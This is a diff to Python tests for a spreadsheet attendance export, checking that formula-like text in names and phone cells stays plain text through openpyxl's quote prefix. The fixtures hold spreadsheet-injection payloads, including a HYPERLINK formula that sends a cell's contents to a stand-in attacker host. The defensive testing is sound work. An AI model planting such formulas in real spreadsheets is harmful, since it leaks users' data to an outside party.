@@ -122,12 +122,20 @@ def test_many_sessions_are_split_into_parts_of_at_most_twenty():
     assert [len(p.columns) for p in sheet.split_parts([], 20)] == [0]
 
 
-def test_formula_like_text_is_escaped():
-    assert sheet.safe_cell('=HYPERLINK("http://x","y")') == '\'=HYPERLINK("http://x","y")'
-    for text in ("+1", "-2", "@SUM(A1)", "\t=1"):
-        assert sheet.safe_cell(text).startswith("'")
-    assert sheet.safe_cell("Nguyễn Văn An") == "Nguyễn Văn An"
-    assert sheet.safe_cell(12) == 12 and sheet.safe_cell(0.5) == 0.5
+def test_formula_like_text_is_kept_as_text():
+    from openpyxl import Workbook
+
+    from training.spreadsheets import keep_text
+
+    ws = Workbook().active
+    for text in ('=HYPERLINK("http://x","y")', "+1", "-2", "@SUM(A1)", "\t=1", "\r=1"):
+        cell = ws.cell(row=1, column=1, value=text)
+        keep_text(cell)
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), text
+    for value in ("Nguyễn Văn An", 12, 0.5):
+        cell = ws.cell(row=2, column=1, value=value)
+        keep_text(cell)
+        assert cell.value == value and not cell.quotePrefix
 
 
 # --- the attendance sheet as PDF ----------------------------------------------------------------
@@ -262,18 +270,19 @@ def test_attendance_xlsx_reads_back_with_names_numbers_and_escaped_formulas(cour
 
     rows = [[ws.cell(r, c) for c in range(1, ws.max_column + 1)] for r in range(head + 1, head + 1 + 7)]
     names = [row[1].value for row in rows]
-    escaped = '\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
-    assert sorted(names, key=lambda n: n != escaped) [0] == escaped
+    escaped = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'  # as typed, kept text by the quote prefix
+    assert escaped in names
     assert [n for n in names if n != escaped] == IN_ORDER
     for row in rows:
         assert row[1].data_type == "s" and row[2].data_type == "s"  # never a formula
-        assert isinstance(row[0].value, int)
+        assert isinstance(row[0].value, int) and not row[0].quotePrefix
+        assert row[1].quotePrefix is (row[1].value == escaped)
         attended, required, share = row[8].value, row[9].value, row[10].value
         assert isinstance(attended, int) and isinstance(required, int) and isinstance(share, (int, float))
         assert share == pytest.approx(attended / required)
         assert row[10].number_format == "0%"
     by_name = {row[1].value: row for row in rows}
-    assert by_name[escaped][2].value == "'+84 912"
+    assert (by_name[escaped][1].quotePrefix, by_name[escaped][2].value, by_name[escaped][2].quotePrefix) == (True, "+84 912", True)
     assert [c.value for c in by_name["Lê Đức Anh"][4:8]] == ["x", "M", "V", "P"]
     assert [c.value for c in by_name["Đỗ Văn Ân"][4:8]] == [None] * 4
     assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)
